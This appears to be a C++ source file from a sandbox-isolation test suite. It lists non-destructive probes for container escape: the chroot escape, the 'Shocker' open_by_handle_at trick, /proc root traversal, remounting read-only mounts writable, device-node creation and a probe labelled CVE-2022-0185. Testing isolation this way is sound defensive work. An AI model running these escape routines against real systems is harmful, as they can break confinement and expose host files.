// Attacks on files, mounts and devices.

#include <fcntl.h>
#include <linux/capability.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#include <cstdio>
#include <cstring>
#include <string>

#include "attacks.h"

namespace cofferdam::attacks {
namespace {

// Reads a file of the host's whose content starts with "canary".
Outcome ReadCanary(const std::string& path) {
  const int fd = ::open(path.c_str(), O_RDONLY | O_CLOEXEC);
  if (fd < 0) return {errno};
  char text[6];
  const ssize_t size = ::read(fd, text, sizeof(text));
  if (size < 0) return {errno};
  return {size == sizeof(text) && std::memcmp(text, "canary", sizeof(text)) == 0 ? 0 : ENODATA};
}

Outcome HostFileByPath(Arguments arguments) { return ReadCanary(arguments[0]); }

Outcome HostFileByDotDot(Arguments arguments) {
  std::string path;
  for (int i = 0; i < 32; ++i) path += "../";
  return ReadCanary(path + arguments[0]);
}

Outcome HostFileBySymlink(Arguments arguments) {
  constexpr char kLink[] = "link-to-the-host";
  if (::symlink(arguments[0], kLink) != 0) return {errno};
  const Outcome outcome = ReadCanary(kLink);
  ::unlink(kLink);
  return outcome;
}

Outcome HostFileByProcRoot(Arguments arguments) {
  return ReadCanary(std::string("/proc/") + arguments[0] + "/root" + arguments[1]);
}

// The root of the first process, whatever it is.
Outcome RootOfWorker(Arguments) { return Of(::open("/proc/1/root", O_RDONLY | O_DIRECTORY)); }

// A mount of the device on which the host's root lies (major:minor), from its root on.
Outcome LeftoverOldRoot(Arguments arguments) {
  std::FILE* const file = std::fopen("/proc/self/mountinfo", "re");
  if (file == nullptr) return {errno};
  char line[4096];
  bool found = false;
  while (std::fgets(line, sizeof(line), file) != nullptr) {
    char device[64];
    char root[1024];
    if (std::sscanf(line, "%*d %*d %63s %1023s", device, root) == 2)
      found |= std::strcmp(device, arguments[0]) == 0 && std::strcmp(root, "/") == 0;
  }
  std::fclose(file);
  return {found ? 0 : ENOENT};
}

// The way out of a chroot: a root below the working directory does not hold it back.
Outcome ChrootEscape(Arguments arguments) {
  constexpr char kJail[] = "jail";
  if (::mkdir(kJail, 0700) != 0) return {errno};
  Outcome outcome = Of(::chroot(kJail));
  ::rmdir(kJail);
  if (outcome.error_number != 0) return outcome;
  for (int i = 0; i < 64; ++i)
    if (::chdir("..") != 0) return {errno};
  if (::chroot(".") != 0) return {errno};
  return ReadCanary(arguments[0]);
}

Outcome RemountWritable(Arguments arguments) {
  return Of(::mount(nullptr, arguments[0], nullptr, MS_REMOUNT | MS_BIND, nullptr));
}

// The same on a mount of one's own, which is nobody's lock.
Outcome RemountOwnWritable(Arguments arguments) {
  if (::mount("none", arguments[0], "tmpfs", MS_RDONLY, nullptr) != 0) return {errno};
  return RemountWritable(arguments);
}

Outcome MountTmpfs(Arguments arguments) {
  return Of(::mount("none", arguments[0], "tmpfs", 0, nullptr));
}

Outcome MountFileSystem(Arguments arguments) {
  return Of(::mount("none", arguments[0], arguments[1], 0, nullptr));
}

// CVE-2022-0185: the options of a file system that is not mounted yet, one after the other.
Outcome ConfigureFileSystem(Arguments) {
  const int fd = ::fsopen("tmpfs", FSOPEN_CLOEXEC);
  // Asked without one, too, so that the second call is tried where the first is refused.
  if (::fsconfig(fd, FSCONFIG_SET_STRING, "size", "4096", 0) != 0 ||
      ::fsconfig(fd, FSCONFIG_CMD_CREATE, nullptr, nullptr, 0) != 0)
    return {errno};
  return Of(::fsmount(fd, FSMOUNT_CLOEXEC, 0));
}

Outcome OpenTree(Arguments arguments) {
  return Of(::open_tree(AT_FDCWD, arguments[0], OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC));
}

Outcome OpenForReading(Arguments arguments) {
  return Of(::open(arguments[0], O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC));
}

// Opens only: what is written there could do harm where the attack succeeds.
Outcome OpenForWriting(Arguments arguments) {
  return Of(::open(arguments[0], O_WRONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC));
}

Outcome CreateFileIn(Arguments arguments) {
  const std::string path = std::string(arguments[0]) + "/planted";
  const Outcome outcome = Of(::open(path.c_str(), O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644));
  if (outcome.error_number == 0) ::unlink(path.c_str());
  return outcome;
}

// Runs a program that says with its exit code whether it got more than its caller has.
Outcome RunPrivileged(Arguments arguments, const char* question) {
  const pid_t pid = ::fork();
  if (pid < 0) return {errno};
  if (pid == 0) {
    char* const argv[] = {arguments[0], const_cast<char*>(question), nullptr};  // NOLINT
    char* const environment[] = {nullptr};
    const int null = ::open("/dev/null", O_WRONLY | O_CLOEXEC);
    ::dup2(null, STDOUT_FILENO);
    ::execve(arguments[0], argv, environment);
    ::_exit(errno);
  }
  int status = 0;
  if (::waitpid(pid, &status, 0) < 0) return {errno};
  if (!WIFEXITED(status)) return {EIO};
  return {WEXITSTATUS(status) == 1 ? EPERM : WEXITSTATUS(status)};
}

Outcome SetuidProgram(Arguments arguments) { return RunPrivileged(arguments, "raised_ids"); }
Outcome CapableProgram(Arguments arguments) {
  return RunPrivileged(arguments, "raised_capabilities");
}

// What the two programs run when they are started.
Outcome RaisedIds(Arguments) { return {::geteuid() == 0 && ::getuid() != 0 ? 0 : EPERM}; }
Outcome RaisedCapabilities(Arguments) {
  __user_cap_header_struct header{_LINUX_CAPABILITY_VERSION_3, 0};
  __user_cap_data_struct data[2]{};
  if (::syscall(SYS_capget, &header, data) != 0) return {errno};
  return {data[0].effective != 0 ? 0 : EPERM};
}

Outcome MakeDevice(mode_t kind, dev_t device) {
  constexpr char kNode[] = "node";
  const Outcome outcome = Of(::mknod(kNode, kind | 0600, device));
  if (outcome.error_number == 0) ::unlink(kNode);
  return outcome;
}
Outcome MakeBlockDevice(Arguments) { return MakeDevice(S_IFBLK, makedev(7, 0)); }
Outcome MakeMemoryDevice(Arguments) { return MakeDevice(S_IFCHR, makedev(1, 1)); }
// To an overlay a file that was deleted; the one device that the kernel lets anybody make.
Outcome MakeWhiteout(Arguments) { return MakeDevice(S_IFCHR, 0); }

Outcome SetAttribute(Arguments arguments) {
  const char* const value = arguments[2];
  return Of(::setxattr(arguments[0], arguments[1], value, std::strlen(value), 0));
}

// "Shocker": a file by its number, past every directory. Without a real handle, inode 2 of ext4.
Outcome OpenByHandle(Arguments arguments) {
  struct {
    file_handle handle;
    unsigned char bytes[MAX_HANDLE_SZ];
  } file{};
  int mount_id = 0;
  file.handle.handle_bytes = MAX_HANDLE_SZ;
  if (::name_to_handle_at(AT_FDCWD, arguments[0], &file.handle, &mount_id, 0) != 0) {
    constexpr unsigned char kRootInode[8] = {2};
    file.handle.handle_bytes = sizeof(kRootInode);
    file.handle.handle_type = 1;
    std::memcpy(file.handle.f_handle, kRootInode, sizeof(kRootInode));
  }
  const int mount = ::open(arguments[0], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (mount < 0) return {errno};
  return Of(::open_by_handle_at(mount, &file.handle, O_RDONLY | O_CLOEXEC));
}

Outcome NameToHandle(Arguments arguments) {
  struct {
    file_handle handle;
    unsigned char bytes[MAX_HANDLE_SZ];
  } file{};
  int mount_id = 0;
  file.handle.handle_bytes = MAX_HANDLE_SZ;
  return Of(::name_to_handle_at(AT_FDCWD, arguments[0], &file.handle, &mount_id, 0));
}

constexpr Attack kAttacks[] = {
    {"host_file_by_path", HostFileByPath, 1},
    {"host_file_by_dotdot", HostFileByDotDot, 1},
    {"host_file_by_symlink", HostFileBySymlink, 1},
    {"host_file_by_proc_root", HostFileByProcRoot, 2},
    {"root_of_worker", RootOfWorker},
    {"leftover_old_root", LeftoverOldRoot, 1},
    {"chroot_escape", ChrootEscape, 1},
    {"remount_writable", RemountWritable, 1},
    {"remount_own_writable", RemountOwnWritable, 1},
    {"mount_tmpfs", MountTmpfs, 1},
    {"mount_file_system", MountFileSystem, 2},
    {"configure_file_system", ConfigureFileSystem},
    {"open_tree", OpenTree, 1},
    {"open_for_reading", OpenForReading, 1},
    {"open_for_writing", OpenForWriting, 1},
    {"create_file_in", CreateFileIn, 1},
    {"setuid_program", SetuidProgram, 1},
    {"capable_program", CapableProgram, 1},
    {"raised_ids", RaisedIds},
    {"raised_capabilities", RaisedCapabilities},
    {"make_block_device", MakeBlockDevice},
    {"make_memory_device", MakeMemoryDevice},
    {"make_whiteout", MakeWhiteout},
    {"set_attribute", SetAttribute, 3},
    {"open_by_handle", OpenByHandle, 1},
    {"name_to_handle", NameToHandle, 1},
};

}  // namespace

std::span<const Attack> FileAttacks() { return kAttacks; }

}  // namespace cofferdam::attacks
